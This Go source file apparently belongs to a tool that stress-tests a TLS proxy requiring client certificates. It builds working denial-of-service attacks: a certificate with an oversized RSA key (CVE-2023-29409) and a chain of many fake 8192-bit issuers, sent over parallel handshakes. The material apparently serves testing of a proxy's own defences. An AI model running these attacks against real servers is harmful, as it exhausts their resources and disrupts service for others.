package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"io"
	numbers "math/big"
	"net"
	"sync"
	"time"
)

// Validated are the attacks on a port whose clients need a certificate.
func Validated() []Attack {
	return []Attack{
		// CVE-2023-29409.
		{Name: "client certificate with a huge RSA key", Within: cutOff, run: func(_ context.Context, a *Attacker) { a.present(hugeKey) }},
		// Each issuer may be the one, which only its key can tell.
		{Name: "client certificate with many issuers", Within: cutOff, run: func(_ context.Context, a *Attacker) { a.presentAll(manyIssuers) }},
	}
}

// present makes a handshake with a client's certificate, which is none that a
// proxy trusts.
func (a *Attacker) present(chain func() (*tls.Certificate, error)) {
	certificate, err := chain()
	if err != nil {
		a.trouble(err)
		return
	}
	conn, err := net.Dial("tcp", a.TLS)
	if err != nil {
		a.trouble(err)
		return
	}
	defer conn.Close()
	a.opened(1, 0)
	start := time.Now()
	config := clientTLS()
	config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return certificate, nil }
	// The proxy refuses in the middle of it, or after the client's part.
	if err = conn.SetDeadline(start.Add(a.Patience)); err == nil {
		_ = tls.Client(conn, config).Handshake()
	}
	over := closes(conn, a.Patience)
	a.closed(time.Since(start), over)
}

// presentAll does so by some connections at once.
func (a *Attacker) presentAll(chain func() (*tls.Certificate, error)) {
	var running sync.WaitGroup
	for range 4 {
		running.Go(func() { a.present(chain) })
	}
	running.Wait()
}

const (
	// hugeBits are more than any server has to take, in a message that it has.
	hugeBits = 400_000
	// bigBits are the most that Go takes, and issuers fill a message of 64 KiB.
	bigBits, issuers = 8192, 42
)

// hugeKey is a certificate by whose key nothing can be verified in time.
var hugeKey = sync.OnceValues(func() (*tls.Certificate, error) {
	key, err := oddKey(hugeBits)
	if err != nil {
		return nil, err
	}
	der, err := issue("leaf", "nobody", key, false)
	return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: pretender{key}}, err
})

// manyIssuers is a certificate with a signature of nobody, and many certificates
// of those whose it could be.
var manyIssuers = sync.OnceValues(func() (*tls.Certificate, error) {
	private, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	leaf, err := issue("leaf", "issuer", private.Public(), false)
	if err != nil {
		return nil, err
	}
	if leaf, err = resign(leaf); err != nil {
		return nil, err
	}
	out := &tls.Certificate{Certificate: [][]byte{leaf}, PrivateKey: private}
	for range issuers {
		key, err := oddKey(bigBits)
		if err != nil {
			return nil, err
		}
		der, err := issue("issuer", "nobody", key, true)
		if err != nil {
			return nil, err
		}
		out.Certificate = append(out.Certificate, der)
	}
	return out, nil
})

// oddKey is a public key of a size, which has no private one.
func oddKey(bits int) (*rsa.PublicKey, error) {
	n, err := rand.Int(rand.Reader, new(numbers.Int).Lsh(numbers.NewInt(1), uint(bits-1)))
	if err != nil {
		return nil, err
	}
	return &rsa.PublicKey{N: n.SetBit(n, bits-1, 1).SetBit(n, 0, 1), E: 65537}, nil
}

// pretender signs for a key that it does not have.
type pretender struct{ key *rsa.PublicKey }

func (p pretender) Public() crypto.PublicKey { return p.key }
func (p pretender) Sign(_ io.Reader, _ []byte, _ crypto.SignerOpts) ([]byte, error) {
	return make([]byte, p.key.Size()), nil
}

// issue makes a certificate for a key.
func issue(subject, issuer string, key crypto.PublicKey, authority bool) ([]byte, error) {
	private, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	template := &x509.Certificate{
		SerialNumber: numbers.NewInt(1), Subject: pkix.Name{CommonName: subject},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: authority, BasicConstraintsValid: true,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	parent := &x509.Certificate{Subject: pkix.Name{CommonName: issuer}}
	return x509.CreateCertificate(rand.Reader, template, parent, key, private)
}

// sha256WithRSA is the algorithm of signatures that RSA keys are tried on.
var sha256WithRSA = pkix.AlgorithmIdentifier{
	Algorithm: asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 1, 11}, Parameters: asn1.NullRawValue,
}

// resign replaces a certificate's signature by one that is as long as those of
// the big keys.
func resign(der []byte) ([]byte, error) {
	var c struct {
		Signed    asn1.RawValue
		Algorithm pkix.AlgorithmIdentifier
		Signature asn1.BitString
	}
	if _, err := asn1.Unmarshal(der, &c); err != nil {
		return nil, err
	}
	var signed struct {
		Raw                            asn1.RawContent
		Version                        int `asn1:"explicit,tag:0"`
		Serial                         *numbers.Int
		Algorithm                      pkix.AlgorithmIdentifier
		Issuer, Validity, Subject, Key asn1.RawValue
		Extensions                     asn1.RawValue `asn1:"optional,explicit,tag:3"`
	}
	if _, err := asn1.Unmarshal(c.Signed.FullBytes, &signed); err != nil {
		return nil, err
	}
	signed.Raw, signed.Algorithm, c.Algorithm = nil, sha256WithRSA, sha256WithRSA
	tbs, err := asn1.Marshal(signed)
	if err != nil {
		return nil, err
	}
	c.Signed = asn1.RawValue{FullBytes: tbs}
	c.Signature = asn1.BitString{Bytes: make([]byte, bigBits/8), BitLength: bigBits}
	c.Signature.Bytes[bigBits/8-1] = 1
	return asn1.Marshal(c)
}
